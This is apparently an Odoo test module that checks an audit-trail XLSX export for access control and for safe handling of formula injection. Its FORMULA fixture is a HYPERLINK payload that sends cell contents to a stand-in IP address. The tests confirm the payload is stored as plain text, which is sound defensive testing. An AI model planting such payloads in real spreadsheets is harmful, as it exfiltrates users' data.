"""The trail as a workbook, by its address: what one may read, and texts as texts."""

import io
import json
from unittest.mock import patch
from urllib.parse import unquote

import openpyxl

from odoo import http
from odoo.tests import new_test_user, tagged
from odoo.tools import mute_logger

from .hostile import PROTOCOLS, HostileCase

REGISTRATION = "danvan.registration"
TRAIL = "danvan.trail"
FORMULA = '=HYPERLINK("http://192.0.2.1/?x="&A1,"Bấm")'


@tagged("post_install", "-at_install", "danvan_http")
class TestWorkflowTrailExport(HostileCase):
    """Two communes; a leader's reason begins with “=”."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.registration = cls._register(cls.campaign, name="=1+1")
        cls.act(cls.registration, cls.officer, "submit")
        cls.act(cls.registration, cls.leader, "return_to_officer", FORMULA)
        cls.foreign = cls._register(
            cls.campaign, cls.other_commune, cls.other_officer, name="Của xã khác"
        )
        cls.act(cls.foreign, cls.other_officer, "submit")

    def _open(self, user, path):
        self.authenticate(user.login, user.login)
        return self.url_open(f"/danvan_kheo/trail{path}")

    def _page(self, response):
        self.assertEqual(response.status_code, 200, response.text[:200])
        return openpyxl.load_workbook(io.BytesIO(response.content)).active

    def _rows(self, response):
        """Return the rows below the headings as dictionaries."""
        rows = list(self._page(response).iter_rows(values_only=True))[2:]
        return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]

    def _of(self, record, user):
        return self._open(user, f"/{record._name}/{record.id}")

    def test_the_trail_of_a_record(self):
        response = self._of(self.registration, self.leader)
        submitted, returned = self._rows(response)
        self.assertEqual(returned["Người thực hiện"], self.leader.name)
        self.assertIn(self.commune.name, returned["Với tư cách"])
        self.assertEqual(returned["Lý do"], FORMULA)
        self.assertEqual(returned["Đơn vị"], self.commune.name)
        self.assertEqual(returned["Tên"], "=1+1")
        self.assertLess(submitted["Dòng số"], returned["Dòng số"])
        self.assertIn("xlsx", response.headers["Content-Disposition"])

    def test_what_was_typed_is_no_formula(self):
        page = self._page(self._of(self.registration, self.leader))
        kinds = {cell.value: cell.data_type for row in page for cell in row}
        self.assertEqual(kinds[FORMULA], "s")
        self.assertEqual(kinds["=1+1"], "s")

    def test_the_list_holds_what_the_user_may_read(self):
        for user, units in (
            (self.officer, {self.commune.name}),
            (self.other_officer, {self.other_commune.name}),
        ):
            rows = self._rows(self._open(user, ""))
            self.assertEqual({row["Đơn vị"] for row in rows}, units)
        both = {row["Đơn vị"] for row in self._rows(self._open(self.administrator, ""))}
        self.assertLessEqual({self.commune.name, self.other_commune.name}, both)

    def test_a_filter_narrows_and_never_widens(self):
        ids = (self.registration | self.foreign).trail_ids.ids
        domain = json.dumps([("id", "in", ids)])
        rows = self._rows(self._open(self.officer, f"?domain={domain}"))
        self.assertEqual(
            {r["Dòng số"] for r in rows}, {*self.registration.trail_ids.ids}
        )
        domain = json.dumps([("transition", "=", "submit")])
        self.assertEqual(
            len(self._rows(self._open(self.officer, f"?domain={domain}"))), 1
        )

    def test_a_foreign_records_trail_is_refused(self):
        for record, user in (
            (self.foreign, self.officer),
            (self.foreign, self.leader),
            (self.registration, self.other_officer),
            (self.registration, new_test_user(self.env, "nobody", "base.group_user")),
            (self.registration, new_test_user(self.env, "gate", "base.group_portal")),
        ):
            response = self._of(record, user)
            self.assertEqual(response.status_code, 403, user.login)
            self.assertNotIn("Traceback", response.text)

    def test_an_address_of_nothing_is_not_found(self):
        missing = self.registration.id + 10**6
        for path in (
            f"/{REGISTRATION}/{missing}",
            f"/{REGISTRATION}/{10**30}",
            f"/{TRAIL}/{self.registration.trail_ids[:1].id}",
            "/res.users/2",
            "/danvan.workflow/1",
            "/no.such.model/1",
            "?domain=x",
            "?domain=1",
            '?domain=[["id", "any!", []]]',
            '?domain=[["no", "=", 1]]',
            '?domain=["%26"]',
            "?domain=[3]",
        ):
            response = self._open(self.officer, path)
            self.assertEqual(response.status_code, 404, path)
            self.assertNotIn("Traceback", response.text)

    def test_too_long_a_list_is_refused_in_words(self):
        name = "odoo.addons.danvan_kheo.models.workflow.trail_export.MOST_LINES"
        with patch(name, 1), mute_logger("odoo.http"):
            response = self._open(self.administrator, "")
        self.assertEqual(response.status_code, 422)
        self.assertNotIn("Traceback", response.text)

    def test_an_anonymous_visitor_is_sent_to_sign_in(self):
        for path in ("", f"/{REGISTRATION}/{self.registration.id}"):
            response = self.url_open(f"/danvan_kheo/trail{path}", allow_redirects=False)
            self.assertEqual(response.status_code, 303)
            self.assertIn("/web/login", response.headers["Location"])

    def test_the_buttons_give_the_address(self):
        for protocol in PROTOCOLS:
            answer = self.call(
                protocol,
                self.officer,
                REGISTRATION,
                "action_export_trail",
                self.registration.ids,
            )
            self.assertEqual(
                answer.value["url"],
                f"/danvan_kheo/trail/{REGISTRATION}/{self.registration.id}",
            )
        self.assert_refused(
            self.other_officer,
            REGISTRATION,
            "action_export_trail",
            self.registration.ids,
        )
        shown = [("transition", "=", "submit")]
        for lines, domain in (
            ([], shown),
            ([7, 8], [("id", "in", [7, 8])]),
            (range(1, 502), shown),
        ):
            trail = self.env[TRAIL].browse(lines).with_context(active_domain=shown)
            url = trail.action_export()["url"]
            name, value = url.split("?", 1)[1].split("=", 1)
            self.assertEqual(name, "domain")
            self.assertEqual(json.loads(unquote(value)), json.loads(json.dumps(domain)))

    def test_odoos_own_export_makes_no_formula_either(self):
        """Flat and grouped, of the trail and of any other list."""
        export = self.env.ref("base.group_allow_export")
        self.leader.write({"group_ids": [(4, export.id)]})
        self.authenticate(self.leader.login, self.leader.login)
        for model, field, typed in (
            (TRAIL, "reason", FORMULA),
            (REGISTRATION, "name", "=1+1"),
        ):
            for groupby in ([], ["unit_id"], [field]):
                with self.subTest(model=model, groupby=groupby):
                    page = self._exported(model, field, groupby)
                    cells = [cell for row in page for cell in row]
                    self.assertNotIn("f", {cell.data_type for cell in cells})
                    texts = [str(cell.value) for cell in cells]
                    self.assertTrue(any(typed in text for text in texts), texts)

    def _exported(self, model, field, groupby):
        data = {
            "model": model,
            "fields": [{"name": field, "label": "=Nhãn", "type": "text"}],
            "ids": False,
            "domain": [],
            "groupby": groupby,
            "import_compat": False,
            "context": {},
        }
        csrf = http.Request.csrf_token(self)
        response = self.url_open(
            "/web/export/xlsx", data={"data": json.dumps(data), "csrf_token": csrf}
        )
        self.assertEqual(response.status_code, 200, response.text[:300])
        return openpyxl.load_workbook(io.BytesIO(response.content)).active
